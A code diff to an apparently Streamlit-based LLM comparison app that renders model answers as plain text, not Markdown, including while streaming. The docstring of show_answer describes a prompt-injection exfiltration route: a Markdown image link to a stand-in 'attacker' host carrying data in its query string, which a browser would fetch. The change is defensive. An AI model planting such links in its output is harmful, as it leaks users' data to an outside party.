@@ -142,6 +142,30 @@ def fmt_duration(seconds: float) -> str:
     return f"{seconds / 60:.1f} min"
 
 
+def show_answer(text: str) -> None:
+    """An LLM answer as plain text: never Markdown or HTML.
+
+    A prompt-injected answer could hold ``![x](https://attacker/?q=...)``; as
+    Markdown the user's browser would fetch that URL. As text it is shown, not loaded.
+    """
+    if text:
+        st.text(text)
+    else:
+        st.caption("(empty answer)")
+
+
+def show_answer_stream(chunks) -> str:
+    """Show streamed answer chunks as plain text as they arrive (see :func:`show_answer`); returns the text."""
+    box = st.empty()
+    text = ""
+    for chunk in chunks:
+        text += chunk
+        box.text(text)
+    if not text:
+        box.caption("(empty answer)")
+    return text
+
+
 def fmt_cost(cost) -> str:
     if cost is None:
         return "n/a"
@@ -543,11 +567,11 @@ if query.strip():
                         stream = stream_prompt(provider, prompts[arm], max_tokens=max_tokens,
                                                temperature=temperature, cache=cache, prices=prices)
                         with st.container(border=True):
-                            st.write_stream(stream)
+                            show_answer_stream(stream)
                         results[arm] = stream.result
                     else:
                         with st.container(border=True):
-                            st.markdown(results[arm].response.text or "_(empty answer)_")
+                            show_answer(results[arm].response.text)
                 except Exception as exc:  # noqa: BLE001 - show_error words CrossroadsError and unexpected errors alike
                     show_error(exc, what="The LLM call")
                     continue
